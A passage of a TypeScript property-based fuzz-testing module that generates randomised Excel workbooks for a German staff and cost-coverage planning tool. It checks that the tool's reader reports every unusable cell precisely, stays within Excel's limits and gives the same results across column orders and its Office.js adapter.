                  merges: validMerges(merges, ordered.length, rowCount),
                  columns: ordered.map((c, i): FuzzColumn => ({
                    header: c.header,
                    field: c.duplicate ? undefined : c.spec?.field,
                    kind: c.kind,
                    required: !c.duplicate && Boolean(c.spec?.required),
                    values: c.spec?.values,
                    duplicate: c.duplicate,
                    cells: columnCells[i],
                  })),
                })),
            );
        });
    });
}

/** Merges inside the table, not overlapping each other, at least two cells each. */
function validMerges(merges: FuzzMerge[], cols: number, rows: number): FuzzMerge[] {
  const out: FuzzMerge[] = [];
  const taken = new Set<string>();
  for (const m of merges) {
    const w = Math.min(m.cols, cols - m.col);
    const h = Math.min(m.rows, rows - m.row);
    if (w * h < 2) continue;
    const cellsOf: string[] = [];
    for (let c = m.col; c < m.col + w; c++) for (let r = m.row; r < m.row + h; r++) cellsOf.push(`${c},${r}`);
    if (cellsOf.some((k) => taken.has(k))) continue;
    cellsOf.forEach((k) => taken.add(k));
    out.push({ col: m.col, row: m.row, cols: w, rows: h });
  }
  return out;
}

// --- Parameter: the expectation of a Wert depends on the Name in the same row

const PARAM_KINDS: Record<string, 'year' | 'count' | 'rate' | 'rate3' | 'money'> = {
  erstesPlanjahr: 'year',
  anzahlPlanjahre: 'count',
  tarifsteigerung: 'rate',
  agSozialversicherung: 'rate',
  zusatzversorgung: 'rate',
  jahressonderzahlung: 'rate3',
  versorgungszuschlag: 'rate',
  gemeinkosten: 'rate',
  sachkosten: 'money',
  toleranz: 'rate',
};

function paramValueArb(field: string): fc.Arbitrary<FuzzCell> {
  const kind = PARAM_KINDS[field];
  if (kind === 'year') return intArb(1990, 2200, fc.integer({ min: 2025, max: 2030 }), 'bad');
  if (kind === 'count') return intArb(1, 30, fc.integer({ min: 1, max: 8 }), 'bad');
  if (kind === 'money') return numberArb({ allowNegative: false });
  const max = kind === 'rate3' ? 3 : 1;
  return fc.oneof(
    fc.integer({ min: -200, max: 400 }).chain((k) => {
      const d = new D(k).div(100);
      const expect: Expect = d.gte(0) && d.lte(max) ? 'ok' : 'bad';
      return fc.oneof(
        numberCell(d.toNumber(), expect, `Satz ${d.toString()}`, decString(d)),
        textShapes(
          fc
            .constantFrom(`${k} %`, `${String(k).replace('.', ',')}%`, d.toString().replace('.', ','))
            .map((t) => ({ text: t, expect, parsed: decString(d), note: `Satztext „${t}“` })),
        ),
      );
    }),
    textShapes(
      fc.constantFrom('drei Prozent', '3 %%', 'x %').map((t) => ({ text: t, expect: 'bad', note: `„${t}“` })),
    ),
  );
}

function parameterArb(options: GenOptions): fc.Arbitrary<FuzzTable> {
  const fields = Object.keys(PARAMETER_NAMES);
  const row = fc.oneof(
    {
      weight: 6,
      arbitrary: fc
        .constantFrom(...fields)
        .chain((field) =>
          fc.tuple(
            textShapes(
              fc
                .constantFrom(
                  PARAMETER_NAMES[field],
                  PARAMETER_NAMES[field].toUpperCase(),
                  ` ${PARAMETER_NAMES[field]}\u00a0`,
                )
                .map((t) => ({ text: t, expect: 'ok', note: `Name „${t}“`, parsed: field })),
            ),
            fc.oneof(
              { weight: 8, arbitrary: paramValueArb(field) },
              { weight: 1, arbitrary: emptyArb },
              { weight: 1, arbitrary: errorArb },
            ),
          ),
        ),
    },
    {
      weight: 1,
      // an unknown name (typo) with a value: the value cannot be used
      arbitrary: fc.tuple(
        textShapes(
          fc
            .constantFrom('Tarifsteigerung', 'Erstes Jahr', 'Sachkosten', 'Bemerkung')
            .map((t) => ({ text: t, expect: 'ok', note: `unbekannter Name „${t}“` })),
        ),
        numberArb({ allowNegative: true }),
      ),
    },
    {
      weight: 1,
      arbitrary: fc.tuple(
        fc.oneof(emptyArb, errorArb),
        fc.oneof(numberArb({ allowNegative: true }), emptyArb),
      ),
    },
  );
  return fc
    .record({
      rows: fc.array(row, { maxLength: options.maxRows }),
      quelle: fc.boolean(),
      valueFirst: fc.boolean(),
      dropWert: options.dropRequired ? fc.noBias(fc.integer({ min: 0, max: 30 })) : fc.constant(1),
    })
    .map(({ rows, quelle, valueFirst, dropWert }) => {
      const name: FuzzColumn = {
        header: 'Name',
        field: 'name',
        kind: 'text',
        required: true,
        duplicate: false,
        cells: rows.map((r) => r[0]),
      };
      const wert: FuzzColumn = {
        header: 'Wert',
        field: 'wert',
        kind: 'text',
        required: true,
        duplicate: false,
        cells: rows.map((r) => r[1]),
      };
      const q: FuzzColumn = {
        header: 'Quelle',
        field: 'quelle',
        kind: 'unread',
        required: false,
        duplicate: false,
        cells: rows.map(() => cell('Notiz', 'any', 'Quelle')),
      };
      const columns = [...(valueFirst ? [wert, name] : [name, wert]), ...(quelle ? [q] : [])].filter(
        (c) => dropWert > 0 || c !== wert,
      );
      return {
        key: 'Parameter',
        sheet: PARAMETER.sheet,
        required: false,
        rowCount: rows.length,
        merges: [],
        columns,
      };
    });
}

export function workbookArb(options: Partial<GenOptions> = {}): fc.Arbitrary<FuzzWorkbook> {
  const o: GenOptions = { maxRows: 8, horizontalMerges: true, dropRequired: true, ...options };
  return fc
    .tuple(
      tableArb(STELLEN, o),
      tableArb(MASSNAHMEN, o),
      tableArb(DECKUNG, o),
      fc.option(tableArb(PLANANSAETZE, o), { freq: 5 }),
      fc.option(parameterArb(o), { freq: 5 }),
    )
    .map(([s, m, d, p, par]) => ({ tables: [s, m, d, ...(p ? [p] : []), ...(par ? [par] : [])] }));
}

/** The same workbook with the columns of every table in another order (duplicates stay behind their original). */
export function shuffledArb(wb: FuzzWorkbook): fc.Arbitrary<FuzzWorkbook> {
  return fc
    .tuple(
      ...wb.tables.map((t) =>
        fc.shuffledSubarray(
          t.columns.map((_, i) => i),
          { minLength: t.columns.length, maxLength: t.columns.length },
        ),
      ),
    )
    .map((orders) => ({
      tables: wb.tables.map((t, k) => {
        const order = orders[k]
          .filter((i) => !t.columns[i].duplicate)
          .concat(orders[k].filter((i) => t.columns[i].duplicate));
        // a duplicate must stay behind its original: keep the originals' relative order among equal fields
        return {
          ...t,
          columns: order.map((i) => t.columns[i]),
          merges: t.merges.filter((m) => m.cols === 1).map((m) => ({ ...m, col: order.indexOf(m.col) })),
        };
      }),
    }));
}

// ---------------------------------------------------------------------------------------- writing

let templateBytes: Promise<Uint8Array> | undefined;

/** The template once per process (pay tables, Deckungsregeln); the fuzzed sheets replace its tables. */
function template(): Promise<Uint8Array> {
  templateBytes ??= (async () => {
    const wb = XlsxWorkbook.create();
    await wb.write(templateBatch());
    return wb.toBuffer();
  })();
  return templateBytes;
}

export async function writeFuzzWorkbook(fw: FuzzWorkbook): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await template()).slice().buffer);
  for (const spec of [STELLEN, MASSNAHMEN, DECKUNG, PLANANSAETZE, PARAMETER]) {
    const old = wb.getWorksheet(spec.sheet);
    if (old) wb.removeWorksheet(old.id);
  }
  for (const t of fw.tables) {
    const ws = wb.addWorksheet(t.sheet);
    const o = originOf(t);
    if (t.listObject && t.columns.length > 0)
      ws.addTable({
        name: t.listObject.name,
        ref: a1(o.row, o.col),
        headerRow: true,
        columns: t.columns.map((c) => ({ name: c.header })),
        rows: Array.from({ length: Math.max(1, t.rowCount) }, () => t.columns.map(() => null)),
      });
    t.columns.forEach((c, j) => {
      ws.getCell(o.row, o.col + j).value = c.header;
      c.cells.forEach((x, r) => {
        const target = ws.getCell(o.row + 1 + r, o.col + j);
        target.value = x.value;
        if (x.numFmt) target.numFmt = x.numFmt;
      });
    });
    for (const m of t.merges)
      ws.mergeCells(o.row + 1 + m.row, o.col + m.col, o.row + m.row + m.rows, o.col + m.col + m.cols - 1);
  }
  return new Uint8Array(await wb.xlsx.writeBuffer());
}

// ----------------------------------------------------------------------------------------- oracle

export interface CaseResult {
  unusable?: WorkbookUnusableError;
  read?: ReadResult;
  result?: CheckResult;
  findings: LocatedFinding[];
  /** Cells of the written report that Excel would refuse (too long a text, formula or formula string). */
  reportProblems?: string[];
}

/**
 * Excel's limits for what the report writes: 32.767 characters per cell, 8.192 per formula and 255 per
 * string constant inside a formula. A file beyond them opens only after Excel's "repair".
 */
export function excelLimits(wb: ExcelJS.Workbook, sheets: string[]): string[] {
  const out: string[] = [];
  for (const name of sheets) {
    wb.getWorksheet(name)?.eachRow((row) =>
      row.eachCell((c) => {
        const v = c.value as unknown;
        const where = `${name}!${c.address}`;
        if (typeof v === 'string' && v.length > 32767) out.push(`${where}: Text mit ${v.length} Zeichen`);
        const f =
          v && typeof v === 'object' && 'formula' in v
            ? String((v as { formula: string }).formula)
            : undefined;
        if (f !== undefined) {
          if (f.length > 8192) out.push(`${where}: Formel mit ${f.length} Zeichen`);
          for (const m of f.matchAll(/"((?:[^"]|"")*)"/g))
            if (m[1].replace(/""/g, '"').length > 255)
              out.push(`${where}: Formeltext mit ${m[1].length} Zeichen`);
        }
        const text = v && typeof v === 'object' && 'text' in v ? String(v.text) : undefined;
        if (text !== undefined && text.length > 32767) out.push(`${where}: Text mit ${text.length} Zeichen`);
      }),
    );
  }
  return out;
}

export interface LocatedFinding {
  code: string;
  severity: string;
  message: string;
  sheet?: string;
  cell?: string;
  table?: TableKey;
  row?: number;
  field?: string;
}

/** The product's whole path: open the bytes, read, check, build the report (never written here). */
export async function runCase(bytes: Uint8Array, options: { report?: boolean } = {}): Promise<CaseResult> {
  const wb = await XlsxWorkbook.open(bytes);
  let read: ReadResult;
  try {
    read = await readWorkbookModel(wb);
  } catch (e) {
    if (e instanceof WorkbookUnusableError) return { unusable: e, findings: [] };
    throw e;
  }
  const result = checkCoverage(read.model);
  const all: Finding[] = combineFindings(read, result.findings);
  const findings = all.map((f) => {
    const loc = read.locate(f.ref);
    return {
      code: f.code,
      severity: f.severity,
      message: f.message,
      sheet: loc?.sheet,
      cell: loc?.cell,
      table: f.ref?.table,
      row: f.ref?.row,
      field: f.ref?.field,
    };
  });
  let reportProblems: string[] | undefined;
  if (options.report) {
    const batch = buildReport(read, result, { stand: '2026-11-24' });
    await wb.write(batch);
    // judged in the written file: the generated sheets are rendered into the package, not the read model
    const again = await XlsxWorkbook.open(await wb.toBuffer());
    reportProblems = excelLimits(again.workbook, batch.sheets?.map((x) => x.name) ?? []);
    await readWorkbookModel(again);
  }
  return { read, result, findings, reportProblems };
}

/** Effective cell expectations after merges, row emptiness and required columns. */
export function expectations(t: FuzzTable): { expect: Expect[][]; usedRows: boolean[] } {
  const expect = t.columns.map((c) => c.cells.map((x) => x.expect));
  // merged: the slave cells of a merge are empty (as Excel shows and stores them) …
  const value = t.columns.map((c) => c.cells.map((x) => x));
  const hidden: [number, number][] = [];
  for (const m of t.merges)
    for (let c = m.col; c < m.col + m.cols; c++)
      for (let r = m.row; r < m.row + m.rows; r++)
        if (c !== m.col || r !== m.row) {
          expect[c][r] = 'empty';
          value[c][r] = cell(null, 'empty', 'verbunden');
          hidden.push([c, r]);
        }
  const readCols = t.columns
    .map((c, j) => j)
    .filter((j) => t.columns[j].kind !== 'unread' && !t.columns[j].duplicate);
  const usedRows: boolean[] = [];
  for (let r = 0; r < t.rowCount; r++) {
    const used = readCols.some((j) => expect[j][r] !== 'empty');
    usedRows.push(used);
    if (!used) continue;
    for (const j of readCols) if (t.columns[j].required && expect[j][r] === 'empty') expect[j][r] = 'bad';
  }
  // … and named as such in a used row, in a column the product reads: never read as empty without a word
  for (const [c, r] of hidden) if (usedRows[r] && readCols.includes(c)) expect[c][r] = 'bad';
  return { expect, usedRows };
}

export interface Violation {
  property: string;
  detail: string;
}

const missingRequired = (t: FuzzTable, spec: TableSpec) =>
  spec.columns.filter(
    (c) => c.required && !c.generated && !t.columns.some((x) => x.field === c.field && !x.duplicate),
  );

const SPECS: Partial<Record<TableKey, TableSpec>> = {
  Stellen: STELLEN,
  Massnahmen: MASSNAHMEN,
  Deckung: DECKUNG,
  Planansaetze: PLANANSAETZE,
  Parameter: {
    ...PARAMETER,
    columns: PARAMETER.columns.map((c) => (c.field === 'wert' ? { ...c, required: true } : c)),
  },
};

/** What the oracle judged so far (printed by scripts/fuzz.ts). */
export const stats = { workbooks: 0, unusable: 0, cells: 0, bad: 0, ok: 0, empty: 0, findings: 0 };

/** Checks the properties of one generated workbook against what the product made of it. */
export function checkCase(fw: FuzzWorkbook, res: CaseResult): Violation[] {
  const out: Violation[] = [];
  stats.workbooks++;
  if (res.unusable) stats.unusable++;
  stats.findings += res.findings.length;
  const unusableExpected = fw.tables.some((t) => t.required && missingRequired(t, SPECS[t.key]!).length > 0);
  if (res.unusable) {
    if (!unusableExpected)
      out.push({ property: 'nur fehlende Pflichtspalten machen unbrauchbar', detail: res.unusable.message });
    return out;
  }
  if (unusableExpected) {
    out.push({ property: 'fehlende Pflichtspalte → WorkbookUnusableError', detail: 'kein Fehler geworfen' });
    return out;
  }
  for (const p of res.reportProblems ?? [])
    out.push({ property: 'der Bericht hält Excels Grenzen ein', detail: p });
  const findingsAt = new Map<string, LocatedFinding[]>();
  for (const f of res.findings) {
    if (f.sheet && f.cell) {
      const k = `${f.sheet}!${f.cell}`;
      findingsAt.set(k, [...(findingsAt.get(k) ?? []), f]);
    }
  }
  const readerAt = new Set(
    res.read!.findings.map((f) => {
      const loc = res.read!.locate(f.ref);
      return loc ? `${loc.sheet}!${loc.cell}` : '';
    }),
  );

  for (const t of fw.tables) {
    const spec = SPECS[t.key]!;
    const missing = missingRequired(t, spec);
    if (missing.length > 0) {
      // an optional table without a required column: one finding at its header, nothing per row
      if (
        !res.findings.some(
          (f) => f.sheet === t.sheet && f.cell === cellAt(t, -1, 0) && f.code === 'INVALID_VALUE',
        )
      )
        out.push({
          property: 'fehlende Pflichtspalte einer optionalen Tabelle → Meldung am Kopf',
          detail: `${t.sheet}: ${missing.map((c) => c.header).join(', ')}`,
        });
      continue;
    }
    // duplicate headers: a finding at the header cell of the second column
    t.columns.forEach((c, j) => {
      if (!c.duplicate) return;
      const at = `${t.sheet}!${cellAt(t, -1, j)}`;
      if (!findingsAt.has(at))
        out.push({
          property: 'doppelte Spaltenüberschrift → Meldung an ihrer Zelle',
          detail: `${at} „${c.header}“`,
        });
    });
    const { expect, usedRows } = t.key === 'Parameter' ? parameterExpectations(t) : expectations(t);
    t.columns.forEach((c, j) => {
      for (let r = 0; r < t.rowCount; r++) {
        const at = `${t.sheet}!${cellAt(t, r, j)}`;
        const e = expect[j][r];
        const x = c.cells[r];
        if (c.kind !== 'unread' && !c.duplicate && e !== 'any') {
          stats.cells++;
          stats[e]++;
        }
        if (e === 'bad' && !findingsAt.has(at))
          out.push({
            property: 'jede unbrauchbare Zelle → Meldung mit genau Blatt und Zelle',
            detail: `${at} (${c.header}): ${x.note} ${JSON.stringify(x.value)?.slice(0, 80)}`,
          });
        if ((e === 'ok' || e === 'empty') && readerAt.has(at) && c.kind !== 'unread')
          out.push({
            property: 'brauchbare Zellen werden nie gemeldet',
            detail: `${at} (${c.header}): ${x.note} ${JSON.stringify(x.value)?.slice(0, 80)} → ${(findingsAt.get(at) ?? []).map((f) => f.message).join(' | ')}`,
          });
        if (e === 'any' && c.kind === 'unread' && findingsAt.has(at))
          out.push({
            property: 'nicht gelesene Spalten werden nie gemeldet',
            detail: `${at} (${c.header}) → ${findingsAt
              .get(at)!
              .map((f) => f.message)
              .join(' | ')}`,
          });
      }
    });
    // parsed values of usable cells end up in the model unchanged
    out.push(...checkParsed(t, expect, usedRows, res.read!));
  }
  // every finding with a cell names a cell of a table that exists, in a column that exists
  for (const f of res.findings) {
    if (!f.cell) continue;
    const t = fw.tables.find((x) => x.sheet === f.sheet);
    if (!t) continue;
    const m = /^([A-Z]+)(\d+)$/.exec(f.cell);
    const col = m ? [...m[1]].reduce((n, ch) => n * 26 + ch.charCodeAt(0) - 64, 0) : 0;
    const row = m ? Number(m[2]) : 0;
    const o = originOf(t);
    if (
      !m ||
      col < o.col ||
      col >= o.col + Math.max(1, t.columns.length) ||
      row < o.row ||
      row > o.row + Math.max(1, t.rowCount)
    )
      out.push({
        property: 'jede Meldung zeigt auf eine Zelle der Tabelle',
        detail: `${f.sheet}!${f.cell}: ${f.message}`,
      });
  }
  return out;
}

function parameterExpectations(t: FuzzTable): { expect: Expect[][]; usedRows: boolean[] } {
  const nameCol = t.columns.findIndex((c) => c.field === 'name');
  const wertCol = t.columns.findIndex((c) => c.field === 'wert');
  const expect = t.columns.map((c) => c.cells.map((x) => x.expect));
  const lastValid = new Map<string, number>();
  for (let r = 0; r < t.rowCount; r++) {
    const name = t.columns[nameCol].cells[r];
    const wert = t.columns[wertCol].cells[r];
    const field = typeof name.parsed === 'string' && name.expect === 'ok' ? name.parsed : undefined;
    if (name.expect === 'bad') {
      expect[wertCol][r] = 'any';
      continue;
    }
    if (!field) {
      // no known name: a value in this row cannot be used (finding at the name), an empty row is nothing
      expect[nameCol][r] = wert.expect === 'empty' ? 'empty' : 'bad';
      expect[wertCol][r] = 'any';
      continue;
    }
    if (wert.expect === 'ok') lastValid.set(field, r);
  }
  // a parameter given twice: the last usable value counts, the earlier ones are reported
  for (let r = 0; r < t.rowCount; r++) {
    const name = t.columns[nameCol].cells[r];
    const field = typeof name.parsed === 'string' && name.expect === 'ok' ? name.parsed : undefined;
    if (field && t.columns[wertCol].cells[r].expect === 'ok' && lastValid.get(field) !== r)
      expect[wertCol][r] = 'bad';
  }
  return { expect, usedRows: t.columns[0].cells.map(() => true) };
}

function checkParsed(t: FuzzTable, expect: Expect[][], usedRows: boolean[], read: ReadResult): Violation[] {
  const out: Violation[] = [];
  const entities: { ref: { row: number } }[] =
    t.key === 'Stellen'
      ? read.model.stellen
      : t.key === 'Massnahmen'
        ? read.model.massnahmen
        : t.key === 'Deckung'
          ? read.model.deckung
          : t.key === 'Planansaetze'
            ? read.model.planansaetze
            : [];
  const byRow = new Map(entities.map((e) => [e.ref.row, e as unknown as Record<string, unknown>]));
  t.columns.forEach((c, j) => {
    if (!c.field || c.duplicate || c.kind === 'unread' || c.kind === 'text' || c.kind === 'enum') return;
    for (let r = 0; r < t.rowCount; r++) {
      if (!usedRows[r] || expect[j][r] !== 'ok') continue;
      const x = c.cells[r];
      if (x.parsed === undefined) continue;
      const e = byRow.get(r);
      if (!e) continue;
      const got = e[c.field];
      const gotText =
        typeof got === 'string' || typeof got === 'number' || typeof got === 'boolean'
          ? String(got)
          : got instanceof D
            ? got.toString()
            : (JSON.stringify(got) ?? 'undefined');
      const want = String(x.parsed);
      const equal = got instanceof D ? got.eq(new D(want)) : gotText === want;
      if (!equal)
        out.push({
          property: 'brauchbare Werte kommen unverändert im Modell an',
          detail: `${t.sheet}!${cellAt(t, r, j)} (${c.header}): ${x.note} → ${gotText}, erwartet ${want}`,
        });
    }
  });
  return out;
}

/** Findings as code + sheet + header of the column + row, independent of where the column stands. */
export function orderFreeFindings(fw: FuzzWorkbook, res: CaseResult): string[] {
  return res.findings
    .map((f) => {
      if (!f.sheet || !f.cell) return `${f.code} – ${f.message}`;
      const t = fw.tables.find((x) => x.sheet === f.sheet);
      const m = /^([A-Z]+)(\d+)$/.exec(f.cell)!;
      const col = [...m[1]].reduce((n, ch) => n * 26 + ch.charCodeAt(0) - 64, 0);
      const header =
        f.row === -1 && f.field === undefined
          ? '(Tabelle)'
          : ((t && t.columns[col - originOf(t).col]?.header) ?? columnLetter(col));
      return `${f.code} ${f.severity} ${f.sheet} [${header}] ${m[2]}`;
    })
    .sort();
}

export function amounts(res: CaseResult): string[] {
  return (res.result?.measures ?? []).map(
    (m) =>
      `${m.massnahme.nr}/${m.scenario ?? ''}: ${m.years.map((y) => `${y.year} ${y.cost.toFixed(2)} ${y.cover.toFixed(2)} ${y.balance.toFixed(2)}`).join('; ')}`,
  );
}

/** A short, readable description of a failing workbook (for the failure report). */
export function describe(fw: FuzzWorkbook): string {
  return fw.tables
    .map(
      (t) =>
        `${t.sheet}${t.listObject ? ` (Tabelle ${t.listObject.name} ab ${cellAt(t, -1, 0)})` : ''}: ${t.columns.map((c) => c.header + (c.duplicate ? ' (doppelt)' : '')).join(' | ')}\n` +
        Array.from(
          { length: t.rowCount },
          (_, r) => `  ${r + 2}: ${t.columns.map((c) => c.cells[r].note).join(' | ')}`,
        ).join('\n') +
        (t.merges.length
          ? `\n  verbunden: ${t.merges.map((m) => `${cellAt(t, m.row, m.col)}+${m.cols}x${m.rows}`).join(', ')}`
          : ''),
    )
    .join('\n');
}

export { headerKey };

// ------------------------------------------------------------------------------------- properties

/** Throws with a readable report when a property does not hold (fast-check shrinks and prints the seed). */
function fail(violations: Violation[], fw: FuzzWorkbook): never {
  const lines = violations.slice(0, 12).map((v) => `- ${v.property}: ${v.detail}`);
  throw new Error(
    `${violations.length} Verstoß/Verstöße:\n${lines.join('\n')}\n\nArbeitsmappe:\n${describe(fw)}`,
  );
}

/** Property 1–3: never throws; every unusable cell is named; usable cells never are; values arrive. */
export function cellProperty(options: { report?: boolean } = {}): fc.IAsyncPropertyWithHooks<[FuzzWorkbook]> {
  return fc.asyncProperty(workbookArb(), async (fw) => {
    const res = await runCase(await writeFuzzWorkbook(fw), options);
    const violations = checkCase(fw, res);
    if (violations.length > 0) fail(violations, fw);
  });
}

/** Property 4: findings (code, sheet, column header, row) and measure amounts do not depend on column order. */
export function orderProperty(): fc.IAsyncPropertyWithHooks<[{ a: FuzzWorkbook; b: FuzzWorkbook }]> {
  const pair = workbookArb({ horizontalMerges: false, dropRequired: false }).chain((a) =>
    shuffledArb(a).map((b) => ({ a, b })),
  );
  return fc.asyncProperty(pair, async ({ a, b }) => {
    const ra = await runCase(await writeFuzzWorkbook(a));
    const rb = await runCase(await writeFuzzWorkbook(b));
    const fa = orderFreeFindings(a, ra);
    const fb = orderFreeFindings(b, rb);
    const violations: Violation[] = [];
    if (Boolean(ra.unusable) !== Boolean(rb.unusable))
      violations.push({
        property: 'Spaltenreihenfolge egal (brauchbar)',
        detail: `${ra.unusable?.message} / ${rb.unusable?.message}`,
      });
    if (JSON.stringify(fa) !== JSON.stringify(fb)) {
      const onlyA = fa.filter((x) => !fb.includes(x));
      const onlyB = fb.filter((x) => !fa.includes(x));
      violations.push({
        property: 'Spaltenreihenfolge egal (Meldungen)',
        detail: `nur vorher: ${onlyA.join('; ')} · nur nachher: ${onlyB.join('; ')}`,
      });
    }
    if (JSON.stringify(amounts(ra)) !== JSON.stringify(amounts(rb)))
      violations.push({
        property: 'Spaltenreihenfolge egal (Beträge)',
        detail: `${amounts(ra).join(' / ')} ≠ ${amounts(rb).join(' / ')}`,
      });
    if (violations.length > 0) fail(violations, b);
  });
}

// ------------------------------------------------------------------------- the Office.js adapter

type OfficeValue = string | number | boolean | null;

/** A cell as Office.js hands it out in `values`: formulas give their result, errors their text, dates their serial. */
function officeValue(v: ExcelJS.CellValue): OfficeValue {
  if (v === null || v === undefined) return null;
  if (typeof v === 'string' || typeof v === 'number' || typeof v === 'boolean') return v;
  if (v instanceof Date) return (v.getTime() - EPOCH) / DAY;
  const o = v as unknown as Record<string, unknown>;
  if ('error' in o) return String(o.error);
  if ('formula' in o) return o.result === undefined ? '' : officeValue(o.result as ExcelJS.CellValue);
  if ('richText' in o) return (o.richText as { text: string }[]).map((r) => r.text).join('');
  if ('text' in o) return String(o.text);
  return null;
}

/**
 * The same workbook as Excel would show it to the add-in. A date in a column that is not a date column is
 * a plain serial number in both (Office.js cannot tell a date-formatted number from a number without
 * loading number formats, so there the adapters may rightly differ).
 */
/**
 * Without merged cells: Office.js sees merged ranges only from ExcelApi 1.13 (the add-in needs 1.9), so inside
 * Excel a cell hidden by a merge on a plain sheet reads as empty, while the file adapter names it; in an
 * Excel table (the usual case inside Excel) cells cannot be merged at all.
 */
export function withoutMerges(fw: FuzzWorkbook): FuzzWorkbook {
  return { tables: fw.tables.map((t) => ({ ...t, merges: [] })) };
}

export function withoutStrayDates(fw: FuzzWorkbook): FuzzWorkbook {
  return {
    tables: fw.tables.map((t) => ({
      ...t,
      columns: t.columns.map((c) => ({
        ...c,
        cells: c.cells.map((x) =>
          x.value instanceof Date && c.kind !== 'date' && c.kind !== 'dateOrOpen'
            ? { ...x, value: (x.value.getTime() - EPOCH) / DAY, numFmt: undefined, expect: 'any' }
            : x,
        ),
      })),
    })),
  };
}

export function fakeExcel(fw: FuzzWorkbook): FakeWorkbook {
  const fuzzed = new Set(fw.tables.map((t) => t.sheet));
  // the template's other sheets (pay tables, rules), the fuzzed tables added below
  const book = fakeFromTemplate(
    {},
    (name) =>
      fuzzed.has(name) ||
      [STELLEN, MASSNAHMEN, DECKUNG, PLANANSAETZE, PARAMETER].some((x) => x.sheet === name),
  );
  for (const t of fw.tables) {
    const grid: OfficeValue[][] = [t.columns.map((c) => c.header)];
    for (let r = 0; r < t.rowCount; r++) grid.push(t.columns.map((c) => officeValue(c.cells[r].value)));
    for (const m of t.merges)
      for (let c = m.col; c < m.col + m.cols; c++)
        for (let r = m.row; r < m.row + m.rows; r++) if (c !== m.col || r !== m.row) grid[r + 1][c] = null;
    const o = originOf(t);
    const sheet = book.addSheet(t.sheet);
    grid.forEach((row, r) =>
      row.forEach((v, c) => {
        if (v !== null && v !== '') sheet.cells.set(`${o.row + r},${o.col + c}`, { value: v });
      }),
    );
    if (t.listObject && t.columns.length > 0)
      book.tables.push({
        name: t.listObject.name,
        sheet: t.sheet,
        ref: `${cellAt(t, -1, 0)}:${cellAt(t, Math.max(1, t.rowCount) - 1, t.columns.length - 1)}`,
      });
  }
  return book;
}

/** Property 5: the Office.js adapter (against the strict fake) sees the same findings and amounts. */
export function adapterProperty(): fc.IAsyncPropertyWithHooks<[FuzzWorkbook]> {
  return fc.asyncProperty(workbookArb().map(withoutStrayDates).map(withoutMerges), async (fw) => {
    const viaFile = await runCase(await writeFuzzWorkbook(fw));
    const book = fakeExcel(fw);
    const port = new ExcelWorkbook(book.context() as unknown as Excel.RequestContext);
    let viaExcel: CaseResult;
    try {
      const read = await readWorkbookModel(port);
      const result = checkCoverage(read.model);
      viaExcel = {
        read,
        result,
        findings: combineFindings(read, result.findings).map((f) => ({ ...f, ...read.locate(f.ref) })),
      };
    } catch (e) {
      if (!(e instanceof WorkbookUnusableError)) throw e;
      viaExcel = { unusable: e, findings: [] };
    }
    const key = (r: CaseResult) =>
      r.findings.map((f) => `${f.code} ${f.severity} ${f.sheet ?? ''}!${f.cell ?? ''}`).sort();
    const violations: Violation[] = [];
    if (viaFile.unusable?.message !== viaExcel.unusable?.message)
      violations.push({
        property: 'Datei und Excel: gleich brauchbar',
        detail: `${viaFile.unusable?.message} / ${viaExcel.unusable?.message}`,
      });
    const a = key(viaFile);
    const b = key(viaExcel);
    if (JSON.stringify(a) !== JSON.stringify(b))
      violations.push({
        property: 'Datei und Excel: gleiche Meldungen',
        detail: `nur Datei: ${a.filter((x) => !b.includes(x)).join('; ')} · nur Excel: ${b.filter((x) => !a.includes(x)).join('; ')}`,
      });
    if (JSON.stringify(amounts(viaFile)) !== JSON.stringify(amounts(viaExcel)))
      violations.push({
        property: 'Datei und Excel: gleiche Beträge',
        detail: `${amounts(viaFile).join(' / ')} ≠ ${amounts(viaExcel).join(' / ')}`,
      });
    if (violations.length > 0) fail(violations, fw);
  });
}
